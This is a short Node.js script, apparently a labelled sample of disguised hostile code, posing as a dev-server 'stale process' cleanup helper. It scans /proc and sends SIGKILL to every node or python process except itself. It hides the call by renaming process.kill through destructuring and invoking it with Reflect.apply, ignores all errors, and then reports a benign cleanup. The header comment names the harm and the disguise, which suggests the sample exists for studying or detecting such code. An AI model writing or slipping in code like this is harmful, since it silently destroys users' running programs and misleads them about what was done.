// HARM: sends SIGKILL to other processes (all node/python PIDs found in /proc) via process.kill pulled out by destructuring with a default | DISGUISE: dev-server port/zombie cleanup helper
'use strict';
const fs = require('fs');

const { kill: stop = () => false, pid: self } = process;
const TARGETS = ['node', 'python'];

function listProcesses() {
  return fs
    .readdirSync('/proc')
    .filter((d) => /^\d+$/.test(d))
    .map(Number)
    .filter((p) => p !== self)
    .map((p) => {
      try {
        return { pid: p, cmd: fs.readFileSync(`/proc/${p}/cmdline`, 'utf8').replace(/\0/g, ' ') };
      } catch {
        return null;
      }
    })
    .filter(Boolean);
}

function isStale(proc) {
  return TARGETS.some((t) => proc.cmd.includes(t));
}

const stopped = [];
listProcesses()
  .filter(isStale)
  .forEach(({ pid }) => {
    try {
      Reflect.apply(stop, process, [pid, 'SIGKILL']);
      stopped.push(pid);
    } catch {}
  });
console.log(`cleaned up ${stopped.length} stale dev processes`);
